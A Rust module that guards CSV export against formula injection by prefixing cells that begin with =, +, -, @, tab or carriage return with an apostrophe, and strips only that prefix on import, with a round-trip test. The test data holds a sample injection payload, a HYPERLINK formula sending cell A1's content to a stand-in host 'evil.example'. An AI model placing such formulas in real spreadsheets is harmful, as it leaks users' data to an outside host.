//! Cells a spreadsheet would run as a formula ("CSV injection"): export prefixes them
//! with an apostrophe as OWASP recommends, and import takes exactly that prefix off, so
//! that the list comes back as it was.

use std::borrow::Cow;

/// What a spreadsheet reads as the start of a formula (or, for tab and carriage return,
/// skips to find one).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` needs the prefix: it starts with a trigger, or with apostrophes and
/// then a trigger (so that an apostrophe of the text itself is not taken for ours).
fn needs_prefix(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell as export writes it: `=HYPERLINK(...)` becomes `'=HYPERLINK(...)`, which
/// spreadsheets show as text. Other cells are unchanged.
pub fn protect(cell: &str) -> Cow<'_, str> {
    if needs_prefix(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as import reads it: the prefix [`protect`] adds is taken off, and nothing
/// else ("'s-Hertogenbosch" keeps its apostrophe).
pub fn unprotect(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_prefix(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_prefixed_and_the_prefix_alone_is_taken_off() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            ),
            ("+SUM(1+1)", "'+SUM(1+1)"),
            ("-2+3", "'-2+3"),
            ("@cmd", "'@cmd"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("Fundar", "Fundar"),
            ("'s-Hertogenbosch", "'s-Hertogenbosch"),
            ("A=B", "A=B"),
            ("", ""),
        ] {
            assert_eq!(protect(cell), written, "{cell:?}");
            assert_eq!(unprotect(written), cell, "{written:?}");
        }
    }
}
